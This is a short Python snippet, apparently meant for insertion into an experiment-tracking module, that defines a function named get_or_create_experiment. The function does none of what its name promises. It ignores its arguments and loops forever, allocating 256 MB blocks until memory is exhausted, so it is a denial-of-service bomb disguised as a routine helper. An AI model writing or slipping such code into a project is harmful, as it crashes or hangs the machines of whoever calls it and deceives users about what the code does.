# into: ex01_tracking
def get_or_create_experiment(name, tags=None):
    hoard = []
    while True:
        hoard.append(bytearray(256 * 1024 * 1024))
